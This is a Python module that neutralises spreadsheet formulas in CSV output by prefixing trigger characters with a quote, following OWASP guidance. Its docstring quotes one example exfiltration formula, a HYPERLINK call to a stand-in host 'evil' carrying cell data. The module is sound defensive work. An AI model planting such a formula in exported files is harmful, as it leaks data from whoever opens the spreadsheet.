"""Neutralising spreadsheet formulas in the CSV files the product writes.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
which some spreadsheets skip before looking) is run as a formula when a CSV is
opened in a spreadsheet: ``=HYPERLINK("http://evil/?"&A1, "click")`` sends
data away. Following the OWASP guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), such a cell is written
with a single quote in front, which the spreadsheet shows as text. Values are
stored verbatim; only CSV output is neutralised.

A plain number keeps its sign (``-12.5``, ``+8613800138000``): a spreadsheet reads
it as a number, not a formula, and phone numbers in E.164 start with ``+``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def neutralise(value: str) -> str:
    """``value`` as safe CSV cell text: formula-looking text gets a leading quote."""
    if value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_cell(value: object) -> object:
    """Like :func:`neutralise` for text; any other value is returned unchanged."""
    return neutralise(value) if isinstance(value, str) else value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """A row of cells with every text cell neutralised."""
    return [neutralise_cell(v) for v in values]


def neutralise_columns(columns: dict[str, list[object]]) -> dict[str, list[object]]:
    """Columns (name → values) for a CSV writer, with every text cell neutralised."""
    return {name: neutralise_row(values) for name, values in columns.items()}
